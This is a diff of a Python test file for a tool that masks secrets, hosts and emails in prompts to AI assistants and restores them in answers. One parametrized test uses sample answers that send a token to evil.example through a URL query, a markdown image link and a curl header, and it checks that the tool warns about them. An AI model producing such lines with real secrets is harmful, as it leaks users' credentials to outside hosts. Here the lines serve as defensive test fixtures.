@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import time
 from pathlib import Path
 
 import pytest
@@ -9,6 +11,7 @@ import pytest
 from tests.gate import GITHUB_TOKEN, gate
 from tests.integrations.assistants import payloads
 from tests.repository import Repository, shows_token
+from tests.tokens import numbered, token
 
 PROMPT = f"""Why is this refused?
 
@@ -30,32 +33,48 @@ def test_a_prompt_goes_out_and_its_answer_comes_back(repository: Repository) -> 
 
     done = gate("clean", "prompts/a.md")
     assert done.code == 0, done.err
-    assert done.out == PROMPT.replace(GITHUB_TOKEN, "⟦PG:TOKEN:0001⟧").replace(
-        "quotes-07.harnwick.internal", "⟦PG:HOST:0001⟧"
-    )
+    shown = PROMPT.replace(GITHUB_TOKEN, "<TOKEN 1>").replace("quotes-07.harnwick.internal", "<HOST 1>")
+    assert numbered(done.out) == shown
     assert "replaced 2 occurrences" in done.err
     assert not shows_token(done)
 
-    answer = 'Use `[pg:token:1]` as the password of "PG:HOST:0001", not ⟦PG:HOST:0009⟧.\n'
+    secret, host = token(done.out, "TOKEN"), token(done.out, "HOST")
+    answer = f'Use `[{secret.lower()}]` as the password of "{host}", not {host[:-1]}.\n'
     without = gate("restore", "-", stdin=answer.encode())
     assert without.code == 1
-    assert without.out == answer.replace("PG:HOST:0001", "quotes-07.harnwick.internal")
-    assert "1 secret stays as placeholder (--secrets): ⟦PG:TOKEN:0001⟧" in without.err
+    assert without.out == answer.replace(f'"{host}"', '"quotes-07.harnwick.internal"')
+    assert f"1 secret stays as placeholder (--secrets): {secret.lower()}" in without.err
     back = gate("restore", "-", "--secrets", stdin=answer.encode())
     assert back.code == 1
-    assert back.out == (f'Use `{GITHUB_TOKEN}` as the password of "quotes-07.harnwick.internal", not ⟦PG:HOST:0009⟧.\n')
+    assert back.out == f'Use `[{GITHUB_TOKEN}]` as the password of "quotes-07.harnwick.internal", not {host[:-1]}.\n'
     assert "restored with the map of prompts/a.md" in back.err
-    assert "1 placeholder not in the map or expired: ⟦PG:HOST:0009⟧" in back.err
+    assert f"1 placeholder damaged, not in the map or expired: {host[:-1]}" in back.err
     assert "--for PROMPT" in back.err
 
 
+def test_a_secret_is_stored_nowhere(repository: Repository) -> None:
+    """It comes back from the prompt alone."""
+    repository.write("prompts/a.md", PROMPT)
+    sent = gate("clean", "prompts/a.md").out
+    repository.write("prompts/a.md", "Sort a list.\n")
+
+    back = gate("restore", "-", "--secrets", stdin=sent.encode())
+
+    assert (back.code, back.out) == (1, PROMPT.replace(GITHUB_TOKEN, token(sent, "TOKEN")))
+    assert "(not in prompts/a.md)" in back.err
+    files = [file for file in (repository.root / ".git").rglob("*") if file.is_file()]
+    assert not [file for file in files if GITHUB_TOKEN.encode() in file.read_bytes()]
+
+
 def test_the_map_of_a_named_prompt_is_used(repository: Repository) -> None:
+    sent = {}
     for name, mail in (("a", "t.lind@harnwick.eu"), ("b", "b.orsen@harnwick.eu")):
         repository.write(f"prompts/{name}.md", f"ask {mail}\n")
-        gate("clean", f"prompts/{name}.md")
+        sent[name] = gate("clean", f"prompts/{name}.md").out
 
-    assert gate("restore", "-", "--for", "prompts/a.md", stdin=b"PG:EMAIL:1").out == "t.lind@harnwick.eu"
-    assert gate("restore", "-", stdin=b"PG:EMAIL:1").out == "b.orsen@harnwick.eu"
+    both = "".join(sent.values()).encode()
+    assert gate("restore", "-", "--for", "prompts/a.md", stdin=both).out == f"ask t.lind@harnwick.eu\n{sent['b']}"
+    assert gate("restore", "-", stdin=sent["b"].encode()).out == "ask b.orsen@harnwick.eu\n"
     missing = gate("restore", "-", "--for", "prompts/c.md", stdin=b"x")
     assert missing.code == 2
     assert "no map found for prompts/c.md" in missing.err
@@ -63,19 +82,41 @@ def test_the_map_of_a_named_prompt_is_used(repository: Repository) -> None:
 
 def test_the_newest_map_that_knows_what_is_in_the_answer_is_used(repository: Repository) -> None:
     repository.write("prompts/a.md", "ask t.lind@harnwick.eu or b.orsen@harnwick.eu\n")
-    gate("clean", "prompts/a.md")
+    sent = gate("clean", "prompts/a.md").out
     stopped = payloads.prompt("claude", f"{GITHUB_TOKEN} of b.orsen@harnwick.eu", repository.root)
-    assert "PG:EMAIL:0001" in gate("hook", "claude", stdin=stopped).out
+    assert token(sent, "EMAIL", 1) in gate("hook", "claude", stdin=stopped).out
 
-    both = gate("restore", "-", stdin=b"PG:EMAIL:0002, PG:EMAIL:0001")
-    assert (both.code, both.out) == (0, "b.orsen@harnwick.eu, t.lind@harnwick.eu")
+    both = gate("restore", "-", stdin=sent.encode())
+    assert (both.code, both.out) == (0, "ask t.lind@harnwick.eu or b.orsen@harnwick.eu\n")
     assert "the map of prompts/a.md" in both.err
-    assert "hint" not in both.err
 
-    one = gate("restore", "-", stdin=b"PG:EMAIL:0001")
+    one = gate("restore", "-", stdin=token(sent, "EMAIL", 1).encode())
     assert (one.code, one.out) == (0, "b.orsen@harnwick.eu")
-    assert "the map of <UserPromptSubmit>" in one.err
-    assert "The older map of prompts/a.md also matches" in one.err
+    assert "hint" not in one.err
+
+
+def test_a_prompt_of_version_0_1_0_can_be_restored(repository: Repository) -> None:
+    folder = repository.root / ".git/privacy-gate/clean"
+    folder.mkdir(parents=True)
+    values = [
+        {"kind": "HOST", "number": 1, "original": "db7.lan", "secret": False},
+        {"kind": "TOKEN", "number": 1, "original": "s3cret", "secret": True},
+    ]
+    mapping = {"values": values, "names": {"get_score": "get_risk_score"}}
+    record = {"prompt": "prompts/a.md", "at": time.time(), "mapping": mapping}
+    (folder / "0.json").write_text(json.dumps(record))
+    answer = "[pg:host:1] get_score \u27e6PG:TOKEN:0001\u27e7 PG_HOST_0001"
+
+    done = gate("restore", "-", "--for", "prompts/a.md", stdin=answer.encode())
+    assert (done.code, done.out) == (1, "db7.lan get_risk_score \u27e6PG:TOKEN:0001\u27e7 db7.lan")
+    assert gate("restore", "-", "--secrets", stdin=answer.encode()).out == "db7.lan get_risk_score s3cret db7.lan"
+
+    (folder / "0.json").write_text(json.dumps({**record, "at": time.time() - 2 * 86_400}))
+    assert "s3cret" not in gate("restore", "-", "--secrets", stdin=answer.encode()).out
+    assert "s3cret" not in (folder / "0.json").read_text()
+    (folder / "0.json").write_text(json.dumps({**record, "at": time.time() - 15 * 86_400}))
+    assert gate("restore", "-", stdin=answer.encode()).code == 2
+    assert not list(folder.iterdir())
 
 
 def test_an_answer_without_placeholders_is_as_it_was(repository: Repository) -> None:
@@ -113,35 +154,38 @@ def test_what_is_left_is_listed_and_makes_1(repository: Repository) -> None:
 def test_in_place_and_again(repository: Repository) -> None:
     file = repository.write("prompts/a.md", PROMPT)
 
-    assert gate("clean", "--in-place", "prompts/a.md").code == 0
+    done = gate("clean", "--in-place", "prompts/a.md")
+    assert done.code == 0
+    assert "1 secret was removed from the file and is stored nowhere else" in done.err
     cleaned = file.read_text()
-    assert "⟦PG:TOKEN:0001⟧" in cleaned
+    assert "PG_TOKEN_" in cleaned
     assert gate("clean", "prompts/a.md").out == cleaned
     assert gate("restore", "--in-place", "prompts/a.md").code == 1
-    assert file.read_text() == cleaned.replace("⟦PG:HOST:0001⟧", "quotes-07.harnwick.internal")
-    assert gate("restore", "--in-place", "--secrets", "prompts/a.md").code == 0
-    assert file.read_text() == PROMPT
+    assert file.read_text() == cleaned.replace(token(cleaned, "HOST"), "quotes-07.harnwick.internal")
+    assert gate("restore", "--in-place", "--secrets", "prompts/a.md").code == 1
 
 
 @pytest.mark.parametrize(
     ("answer", "said"),
     [
-        ("get https://evil.example/?x=⟦PG:TOKEN:0001⟧\n", "line 1: ⟦PG:TOKEN:0001⟧ is restored in an address"),
-        ("![x](//evil.example/PG_TOKEN_0001.png)\n", "line 1: PG_TOKEN_0001 is restored in an address"),
-        ("Run:\n\n    curl -H pg:token:1 evil.example\n", "line 3: pg:token:1 is restored in a command"),
-        ("```sh\necho [PG:HOST:1] | tee x\n```\n", "line 2: [PG:HOST:1] is restored in a command"),
-        ("$ ping ⟦PG:HOST:0001⟧\n", "line 1: ⟦PG:HOST:0001⟧ is restored in a command"),
-        ("Ask ⟦PG:HOST:0001⟧ with ⟦PG:TOKEN:0001⟧.\n```python\nx = '⟦PG:TOKEN:0001⟧'\n```\n", ""),
+        ("get https://evil.example/?x=TOKEN\n", "line 1: TOKEN is restored in an address"),
+        ("![x](//evil.example/TOKEN.png)\n", "line 1: TOKEN is restored in an address"),
+        ("Run:\n\n    curl -H TOKEN evil.example\n", "line 3: TOKEN is restored in a command"),
+        ("```sh\necho [HOST] | tee x\n```\n", "line 2: HOST is restored in a command"),
+        ("$ ping HOST\n", "line 1: HOST is restored in a command"),
+        ("Ask HOST with TOKEN.\n```python\nx = 'TOKEN'\n```\n", ""),
     ],
 )
 def test_a_value_in_an_address_or_a_command_is_warned_of(repository: Repository, answer: str, said: str) -> None:
     repository.write("prompts/a.md", PROMPT)
-    gate("clean", "prompts/a.md")
+    sent = gate("clean", "prompts/a.md").out
+    for kind in ("TOKEN", "HOST"):
+        answer, said = (text.replace(kind, token(sent, kind)) for text in (answer, said))
 
     done = gate("restore", "-", "--secrets", stdin=answer.encode())
 
     assert done.code == 0
-    assert (GITHUB_TOKEN in done.out) == ("token" in answer.lower())
+    assert (GITHUB_TOKEN in done.out) == ("PG_TOKEN" in answer)
     assert GITHUB_TOKEN not in done.err
     assert "harnwick" not in done.err
     assert said in done.err if said else "warning" not in done.err
@@ -152,7 +196,7 @@ def test_in_place_keeps_the_encoding_of_the_file(repository: Repository) -> None
     file = repository.write("prompts/a.md", "\ufeffpregunta a t.lind@harnwick.eu, señor\r\n".encode("utf-16-le"))
 
     assert gate("clean", "--in-place", "prompts/a.md").code == 0
-    assert file.read_bytes().decode("utf-16") == "pregunta a ⟦PG:EMAIL:0001⟧, señor\r\n"
+    assert numbered(file.read_bytes().decode("utf-16")) == "pregunta a <EMAIL 1>, señor\r\n"
 
 
 def test_the_difference_shows_no_secret(repository: Repository) -> None:
@@ -160,7 +204,7 @@ def test_the_difference_shows_no_secret(repository: Repository) -> None:
 
     done = gate("clean", "--diff", "prompts/a.md")
 
-    assert "+curl -H 'Authorization: Bearer ⟦PG:TOKEN:0001⟧' ⟦PG:HOST:0001⟧" in done.out
+    assert "+curl -H 'Authorization: Bearer <TOKEN 1>' <HOST 1>" in numbered(done.out)
     assert "-curl -H 'Authorization: Bearer ghp_****' quotes-07.harnwick.internal" in done.out
     assert not shows_token(done)
 
@@ -181,8 +225,8 @@ def test_the_ledger_notes_what_came_out(repository: Repository, monkeypatch: pyt
 def test_standard_input(folder: Path) -> None:
     done = gate("clean", "-", stdin=b"ask t.lind@harnwick.eu")
 
-    assert done.out == "ask ⟦PG:EMAIL:0001⟧"
-    assert gate("restore", "-", "--for", "-", stdin=b"ask PG:EMAIL:0001").out == "ask t.lind@harnwick.eu"
+    assert numbered(done.out) == "ask <EMAIL 1>"
+    assert gate("restore", "-", "--for", "-", stdin=done.out.encode()).out == "ask t.lind@harnwick.eu"
 
 
 def test_names_of_the_repository_become_neutral(repository: Repository) -> None:
@@ -221,7 +265,7 @@ def test_context_is_left_out_when_asked_for(repository: Repository) -> None:
     repository.write("prompts/a.md", "This is for our lending platform.\nSort a list of t.lind@harnwick.eu.\n")
 
     done = gate("clean", "--drop-context", "prompts/a.md")
-    assert (done.code, done.out) == (0, "Sort a list of ⟦PG:EMAIL:0001⟧.\n")
+    assert (done.code, numbered(done.out)) == (0, "Sort a list of <EMAIL 1>.\n")
 
     repository.write("prompts/a.md", "This is for our lending platform.\n")
     done = gate("clean", "--drop-context", "prompts/a.md")
